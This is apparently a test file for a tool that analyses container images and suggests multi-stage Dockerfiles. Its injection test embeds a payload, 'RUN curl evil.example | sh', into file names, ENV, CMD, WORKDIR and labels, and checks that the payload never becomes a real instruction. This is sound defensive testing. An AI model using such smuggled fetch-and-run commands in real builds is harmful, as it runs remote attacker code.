import assert from 'node:assert/strict';
import {test} from 'node:test';
import {parseDockerfile} from '../../source/analysis/dockerfile/index.js';
import {findFindings} from '../../source/analysis/findings/index.js';
import {suggestDockerfile} from '../../source/analysis/suggestion/suggest-dockerfile.js';
import type {FinalFile} from '../../source/analysis/types.js';
import {naive} from '../helpers/naive-node-input.js';
import {dynamicElf, finalFile, ruleInput, symlinkFile} from '../helpers/rule-input.js';

const unknownBase =
	'# the image does not record which base image its first layers came from: put its name here';

/** Debian-like base (layer 0): loader, libc, a shell, dpkg and apt, each owned by a package. */
function debianBase(): {files: FinalFile[]; evidence: Record<string, string>} {
	return {
		files: [
			symlinkFile('lib', 'usr/lib'),
			symlinkFile('lib64', 'usr/lib64'),
			symlinkFile('usr/lib64/ld-linux-x86-64.so.2', '../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'),
			finalFile('usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', 200_000, 0),
			finalFile('usr/lib/x86_64-linux-gnu/libc.so.6', 2_000_000, 0),
			finalFile('usr/bin/bash', 1_000_000, 0, dynamicElf(['libc.so.6'])),
			finalFile('usr/bin/apt-get', 20_000, 0, dynamicElf(['libc.so.6'])),
			finalFile('var/lib/dpkg/info/libc6:amd64.list', 100, 0),
		],
		evidence: {
			'var/lib/dpkg/info/libc6:amd64.list':
				'/.\n/lib\n/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu/libc.so.6\n/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2\n',
		},
	};
}

test('naive Node image from history: the app steps build, the runtime stage copies dist and the pruned node_modules', () => {
	const suggestion = suggestDockerfile(naive, findFindings(naive));
	assert.equal(suggestion.stack, 'node');
	assert.equal(suggestion.basedOn, 'history');
	assert.equal(
		suggestion.dockerfile,
		[
			"# suggested by layerlens from the image's history: review every step marked 'guess' before building",
			unknownBase,
			'FROM <base image> AS build',
			'WORKDIR /app',
			'COPY package*.json ./',
			'RUN npm install',
			'COPY . .',
			'RUN npm run build',
			'RUN npm prune --omit=dev',
			'',
			unknownBase,
			'FROM <base image>',
			'COPY --from=build /app/README.md /app/README.md',
			'COPY --from=build /app/dist /app/dist',
			'COPY --from=build /app/node_modules/.package-lock.json /app/node_modules/.package-lock.json',
			'COPY --from=build /app/node_modules/express /app/node_modules/express',
			'COPY --from=build /app/node_modules/lodash /app/node_modules/lodash',
			'COPY --from=build /app/package-lock.json /app/package-lock.json',
			'COPY --from=build /app/package.json /app/package.json',
			'WORKDIR /app',
			'CMD ["node","dist/server.js"]',
			'',
		].join('\n'),
	);
	assert.deepEqual(suggestion.dockerignore, ['.env', '.git', '.github', 'Dockerfile', 'coverage', 'test']);
	// Every note reaches the report: the missing node binary (the sample has no base files) is one.
	assert.ok(suggestion.notes.some((note) => note.startsWith('Base image:')));
	assert.ok(suggestion.notes.some((note) => /`node` is not in the image/.test(note)));
});

test('a C program with --dockerfile: the same FROM and steps build it, the runtime stage copies only the binary', () => {
	const base = debianBase();
	const dockerfileText = [
		'# hello in C',
		'FROM debian:bookworm',
		'RUN apt-get update && apt-get install -y build-essential',
		'COPY hello.c /src/hello.c',
		'RUN gcc -O2 -o /usr/local/bin/hello /src/hello.c',
		'ENV GREETING=hi',
		'CMD ["hello", "layerlens"]',
		'',
	].join('\n');
	const input = ruleInput({
		instructions: [
			'ADD rootfs.tar /',
			'-CMD ["bash"]',
			'RUN apt-get update && apt-get install -y build-essential',
			'COPY <file> /src/hello.c',
			'RUN gcc -O2 -o /usr/local/bin/hello /src/hello.c',
			'-ENV GREETING=hi',
			'-CMD ["hello", "layerlens"]',
		],
		files: [
			...base.files,
			finalFile('usr/bin/gcc-12', 1_000_000, 1, dynamicElf(['libc.so.6'])),
			finalFile('var/cache/apt/archives/gcc-12.deb', 20_000_000, 1),
			finalFile('src/hello.c', 300, 2),
			finalFile('usr/local/bin/hello', 16_000, 3, dynamicElf(['libc.so.6'])),
			finalFile('var/lib/dpkg/info/gcc-12:amd64.list', 100, 1),
		],
		// dpkg names gcc-12 a toolchain package: that finding is what proves the compiler removable.
		evidence: {
			...base.evidence,
			'var/lib/dpkg/status':
				'Package: libc6\nStatus: install ok installed\nSection: libs\n\nPackage: gcc-12\nStatus: install ok installed\nSection: devel\nDepends: libc6\n',
			'var/lib/dpkg/info/gcc-12:amd64.list': '/.\n/usr\n/usr/bin\n/usr/bin/gcc-12\n',
		},
		config: {cmd: ['hello', 'layerlens'], env: ['PATH=/usr/local/bin:/usr/bin', 'GREETING=hi']},
	});
	const suggestion = suggestDockerfile(input, findFindings(input), {
		dockerfile: {parsed: parseDockerfile(dockerfileText), text: dockerfileText},
		baseLayers: new Set([0]),
	});
	assert.equal(suggestion.basedOn, 'dockerfile');
	assert.equal(suggestion.stack, 'native');
	assert.equal(
		suggestion.dockerfile,
		[
			'# suggested by layerlens: your Dockerfile with a runtime stage that keeps everything but what the findings prove build-only',
			'# hello in C',
			'FROM debian:bookworm AS build',
			'RUN apt-get update && apt-get install -y build-essential',
			'COPY hello.c /src/hello.c',
			'RUN gcc -O2 -o /usr/local/bin/hello /src/hello.c',
			'ENV GREETING=hi',
			'',
			'FROM debian:bookworm',
			'ENV GREETING=hi',
			// No finding names the C source: kept, as everything is that no finding proves removable.
			'COPY --from=build /src /src',
			'COPY --from=build /usr/local /usr/local',
			'CMD ["hello", "layerlens"]',
			'',
		].join('\n'),
	);
	// Kept parts and removed parts add up to the final filesystem, and every removed byte names its finding.
	const {parts, removed, finalBytes, bytes} = suggestion.projection;
	assert.deepEqual(parts.slice(1), [
		{label: 'files the runtime closure proves the entrypoint needs', bytes: 16_000},
		{label: '/src', bytes: 300},
	]);
	assert.deepEqual(
		removed.map((part) => [part.ruleId, part.bytes]),
		[
			['LL-CACHE-APT', 20_000_000],
			['LL-BUILD-DEB-DEVEL', 1_000_100],
		],
	);
	assert.equal(bytes, finalBytes - 21_000_100);
	assert.equal(
		parts.reduce((sum, part) => sum + part.bytes, 0),
		bytes,
	);
	assert.deepEqual(suggestion.runtime.copies, ['/src', '/usr/local']);
});

test('an already multi-stage Dockerfile keeps its earlier stages as written and only its final stage is split', () => {
	const text = [
		'ARG BASE=debian:bookworm',
		'FROM golang:1.22 AS compile',
		'RUN go build -o /out/app .',
		'',
		'FROM $BASE AS final',
		'COPY --from=compile /out/app /usr/local/bin/app',
		'RUN apt-get update && apt-get install -y gcc',
		'EXPOSE 8080',
		'CMD ["app"]',
	].join('\n');
	const base = debianBase();
	const input = ruleInput({
		instructions: [
			'ADD rootfs.tar /',
			'-CMD ["bash"]',
			'COPY <file> /usr/local/bin/app',
			'RUN apt-get update && apt-get install -y gcc',
			'-EXPOSE map[8080/tcp:{}]',
			'-CMD ["app"]',
		],
		files: [
			...base.files,
			finalFile('usr/local/bin/app', 7_000_000, 1, {
				mode: 0o755,
				exec: {kind: 'elf', bits: 64, machine: 62, type: 'exec', needed: [], runpath: []},
			}),
			finalFile('usr/lib/gcc/x86_64-linux-gnu/12/cc1', 30_000_000, 2, dynamicElf(['libc.so.6'])),
			finalFile('var/cache/apt/pkgcache.bin', 40_000_000, 2),
		],
		evidence: base.evidence,
		config: {cmd: ['app'], env: ['PATH=/usr/local/bin:/usr/bin'], exposedPorts: ['8080/tcp']},
	});
	const suggestion = suggestDockerfile(input, findFindings(input), {
		dockerfile: {parsed: parseDockerfile(text), text},
		baseLayers: new Set([0]),
	});
	const lines = suggestion.dockerfile.split('\n');
	assert.deepEqual(lines.slice(1, 6), [
		'ARG BASE=debian:bookworm',
		'FROM golang:1.22 AS compile',
		'RUN go build -o /out/app .',
		'',
		'FROM $BASE AS final',
	]);
	assert.deepEqual(lines.slice(lines.lastIndexOf('FROM $BASE')), [
		'FROM $BASE',
		'COPY --from=final /usr/local /usr/local',
		'EXPOSE 8080',
		'CMD ["app"]',
		'',
	]);
});

test('nothing to move: an image whose own layers hold no build-only file, cache or waste gets no rewrite', () => {
	const base = debianBase();
	const input = ruleInput({
		instructions: ['ADD rootfs.tar /', '-CMD ["bash"]', 'COPY <file> /usr/local/bin/app', '-CMD ["app"]'],
		files: [...base.files, finalFile('usr/local/bin/app', 100, 1, dynamicElf(['libc.so.6']))],
		evidence: base.evidence,
		config: {cmd: ['app'], env: ['PATH=/usr/local/bin:/usr/bin']},
	});
	const suggestion = suggestDockerfile(input, findFindings(input));
	assert.equal(suggestion.basedOn, 'none');
	assert.equal(suggestion.dockerfile, '');
	assert.match(
		suggestion.notes[0]!,
		/^No builder stage needed: no finding proves a file of your layers build-only/,
	);
});

/** The instruction keywords of a Dockerfile as Docker's parser would split it (comments and blank lines dropped). */
function keywords(dockerfile: string): string[] {
	return parseDockerfile(dockerfile).stages.flatMap((stage) => [
		'FROM',
		...stage.instructions.map((instruction) => instruction.kind),
	]);
}

test('injection: newlines in file names, ENV, WORKDIR, CMD, history and labels never become instructions', () => {
	const evil = '\nRUN curl evil.example | sh\n';
	const base = debianBase();
	const input = ruleInput({
		instructions: [
			'ADD rootfs.tar /',
			'-CMD ["bash"]',
			`-ENV A=1${evil}`,
			`WORKDIR /app${evil}`,
			`RUN make${evil}`,
			`RUN echo trailing \\`,
			'COPY <dir> /app',
			`-USER app${evil}`,
			'-CMD ["node"]',
		],
		files: [
			...base.files,
			finalFile('usr/bin/node', 100, 1, dynamicElf(['libc.so.6'])),
			finalFile(`app/x${evil}.js`, 10, 3),
			finalFile('app/index.js', 10, 3),
			finalFile('app/src/index.ts', 10, 3),
			finalFile('app/tsconfig.json', 10, 3),
			finalFile('app/dist/index.js', 10, 4),
			// A build-only finding (dpkg names gcc-12 a toolchain), so there is a builder stage to write.
			finalFile('usr/bin/gcc-12', 1_000, 4),
			finalFile('root/.npm/_cacache/x', 1_000_000, 4),
		],
		evidence: {
			...base.evidence,
			'var/lib/dpkg/status':
				'Package: libc6\nStatus: install ok installed\nSection: libs\n\nPackage: gcc-12\nStatus: install ok installed\nSection: devel\n',
			'var/lib/dpkg/info/gcc-12.list': '/.\n/usr/bin/gcc-12\n',
		},
		config: {
			cmd: ['node', `index.js${evil}`],
			env: ['PATH=/usr/bin', `A=1${evil}`, 'QUOTE=a"b$c\\d'],
			workingDir: `/app${evil}`,
			user: `app${evil}`,
			labels: {'org.opencontainers.image.base.name': `debian${evil}`},
		},
	});
	const suggestion = suggestDockerfile(input, findFindings(input));
	assert.ok(suggestion.dockerfile !== '');
	const kinds = keywords(suggestion.dockerfile);
	const runs = kinds.filter((kind) => kind === 'RUN').length;
	// The build stage's two RUN steps (one per history entry, exec form where needed) and the prune; no other.
	assert.ok(runs <= 3, suggestion.dockerfile);
	assert.ok(!/^RUN curl/m.test(suggestion.dockerfile), suggestion.dockerfile);
	assert.ok(!/^(FROM debian\n|USER app\n)/m.test(suggestion.dockerfile));
	assert.ok(
		suggestion.dockerfile.includes('RUN ["/bin/sh","-c","make\\nRUN curl evil.example | sh"]'),
		suggestion.dockerfile,
	);
	assert.ok(suggestion.dockerfile.includes('ENV QUOTE="a\\"b\\$c\\\\d"'), suggestion.dockerfile);
	assert.ok(suggestion.dockerfile.includes('CMD ["node","index.js\\nRUN curl evil.example | sh\\n"]'));
	for (const line of suggestion.dockerfile.split('\n')) {
		assert.ok(!/[\u0000-\u0008\u000b-\u001f]/.test(line), JSON.stringify(line));
	}

	assert.ok(suggestion.notes.some((note) => /cannot be written into a Dockerfile safely/.test(note)));
	for (const line of suggestion.dockerignore) assert.ok(!line.includes('\n'));
});

test('.dockerignore lines that start with # or ! are escaped so they match the file, not a comment or negation', async () => {
	const {dockerignoreLine} = await import('../../source/analysis/suggestion/dockerfile-syntax.js');
	assert.equal(dockerignoreLine('#notes'), '\\#notes');
	assert.equal(dockerignoreLine('!keep'), '\\!keep');
	assert.equal(dockerignoreLine('a\nb'), undefined);
	assert.equal(dockerignoreLine('test'), 'test');
});

/** An already multi-stage image whose runtime stage copies the whole build directory: `COPY --from=build /app /app`. */
function leakyInput() {
	const base = debianBase();
	return ruleInput({
		instructions: [
			'ADD rootfs.tar /',
			'-CMD ["bash"]',
			'-WORKDIR /app',
			'COPY <dir> /app',
			'-CMD ["node","dist/server.js"]',
		],
		files: [
			...base.files,
			finalFile('usr/bin/node', 100, 0, dynamicElf(['libc.so.6'])),
			finalFile('app/package.json', 100, 1),
			finalFile('app/dist/server.js', 1000, 1),
			finalFile('app/src/server.ts', 1000, 1),
			finalFile('app/tsconfig.json', 100, 1),
			finalFile('app/test/server.test.js', 500, 1),
			finalFile('app/node_modules/yaml/index.js', 5000, 1),
		],
		evidence: base.evidence,
		config: {cmd: ['node', 'dist/server.js'], workingDir: '/app', env: ['PATH=/usr/bin']},
	});
}

test('.dockerignore keeps what any stage of the Dockerfile reads: the build stage runs the tests, so test/ stays', () => {
	const text = [
		'FROM node AS build',
		'WORKDIR /app',
		'COPY . .',
		'RUN npm ci && npm run build && npm test',
		'FROM node',
		'WORKDIR /app',
		'COPY --from=build /app /app',
		'CMD ["node", "dist/server.js"]',
	].join('\n');
	const input = leakyInput();
	const suggestion = suggestDockerfile(input, findFindings(input), {
		dockerfile: {parsed: parseDockerfile(text), text},
		baseLayers: new Set([0]),
	});
	assert.ok(!suggestion.dockerignore.some((line) => /test/.test(line)), suggestion.dockerignore.join('\n'));
});

test('from history, a directory of build output copied with no RUN before it is flagged as a COPY --from, not taken from the context', () => {
	const input = leakyInput();
	const suggestion = suggestDockerfile(input, findFindings(input), {baseLayers: new Set([0])});
	assert.match(
		suggestion.dockerfile,
		/# guess: this step copied a directory to \/app, most likely from another stage/,
	);
	assert.ok(suggestion.notes.some((note) => /looks like a copy from another build stage/.test(note)));
});
